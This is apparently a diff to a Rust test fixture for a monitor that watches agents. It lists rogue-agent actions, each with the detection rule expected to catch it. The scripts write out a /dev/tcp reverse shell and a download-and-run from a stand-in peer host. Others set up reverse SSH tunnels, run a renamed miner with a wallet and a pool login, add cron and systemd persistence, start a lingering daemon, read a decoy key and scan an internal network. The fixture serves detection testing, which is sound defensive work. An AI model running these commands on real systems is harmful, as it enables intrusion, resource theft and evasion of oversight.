@@ -12,6 +12,8 @@ pub(super) struct Deed {
     pub(super) script: &'static str,
     /// File of the rule that must catch it, from below `rules/`.
     pub(super) rule: &'static str,
+    /// What the alert's evidence must say, where that is the point.
+    pub(super) says: Option<&'static str>,
 }
 
 /// One thing that the benign agent does.
@@ -35,6 +37,7 @@ pub(super) const ROGUE: &[Deed] = &[
         what: "runs a program named xmrig",
         script: r#"cp "$TRIGGER" "$DEMO/xmrig"; "$DEMO/xmrig" --version"#,
         rule: "mining/miner_name.yml",
+        says: None,
     },
     Deed {
         what: "runs a renamed miner with its options",
@@ -43,6 +46,7 @@ pub(super) const ROGUE: &[Deed] = &[
     -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD \
     --donate-level 1"#,
         rule: "mining/miner_command_line.yml",
+        says: None,
     },
     Deed {
         what: "opens a reverse SSH tunnel",
@@ -52,36 +56,49 @@ pub(super) const ROGUE: &[Deed] = &[
     -o BatchMode=yes -o ExitOnForwardFailure=yes -o LogLevel=ERROR "root@$PEER"
 close_tunnel"#,
         rule: "network/ssh_reverse_tunnel.yml",
+        says: None,
     },
     Deed {
         what: "adds a line to cron through a symlinked directory",
         script: r#"ln -s /etc/cron.d "$DEMO/notes"; echo '*/5 * * * * root /bin/true' >> "$DEMO/notes/${CRON##*/}""#,
         rule: "persistence/cron.yml",
+        says: Some("*/5 * * * *"),
     },
     Deed {
         what: "installs a systemd unit",
         script: r#"printf '[Service]\nExecStart=/bin/true\n' > "$UNIT""#,
         rule: "persistence/systemd_unit.yml",
+        says: None,
     },
     Deed {
         what: "leaves a daemon that outlives its command and listens on every address",
         script: r#""$TRIGGER" daemon 0.0.0.0:0 60 > "$DEMO/daemon.json""#,
         rule: "persistence/daemon_reachable.yml",
+        says: None,
     },
     Deed {
         what: "downloads a program and runs it",
         script: r#"curl -sSo "$DEMO/tool" "http://$PEER:8080/tool"; chmod +x "$DEMO/tool"; "$DEMO/tool" nothing"#,
         rule: "execution/new_program_fetched.yml",
+        says: None,
+    },
+    Deed {
+        what: "opens a decoy key",
+        script: r#"cat "$DEMO/old-laptop/id_ed25519""#,
+        rule: "credential/canary_opened.yml",
+        says: None,
     },
     Deed {
         what: "executes a program from memory",
         script: r#""$TRIGGER" exec-memfd"#,
         rule: "execution/memfd.yml",
+        says: None,
     },
     Deed {
         what: "logs a renamed miner in to a pool",
         script: r#"cp "$TRIGGER" "$DEMO/indexer"; "$DEMO/indexer" miner "$PEER:8443" cryptonote"#,
         rule: "mining/stratum.yml",
+        says: None,
     },
     Deed {
         what: "does the same under TLS",
@@ -90,6 +107,7 @@ close_tunnel"#,
 "$DEMO/indexer" miner - cryptonote < "$DEMO/back" |
     "$DEMO/carrier" s_client -quiet -no_ign_eof -connect "$PEER:443" -servername xmr.2miners.com > "$DEMO/back""#,
         rule: "mining/pool_domain.yml",
+        says: None,
     },
     Deed {
         what: "opens a reverse tunnel by configuration alone, and it is used",
@@ -103,12 +121,14 @@ said=$(ssh -F "$DEMO/ssh/plain" relay bash -c "'exec 3<> /dev/tcp/127.0.0.1/9000
 close_tunnel
 [ "$said" = through ]"#,
         rule: "network/ssh_client_tunnel.yml",
+        says: None,
     },
     Deed {
         what: "gives a shell away to another machine",
         script: r#"bash -c "bash -i >& /dev/tcp/$PEER/4444 0>&1"
 until grep -q uid= "$DEMO/held"; do sleep 0.05; done"#,
         rule: "network/reverse_shell.yml",
+        says: None,
     },
     Deed {
         what: "looks for SSH on sixty machines",
@@ -120,6 +140,7 @@ for host in range(1, 61):
         probe.connect_ex((f"10.78.0.{host}", 22))
 PYTHON"#,
         rule: "network/internal_scan.yml",
+        says: None,
     },
 ];
 
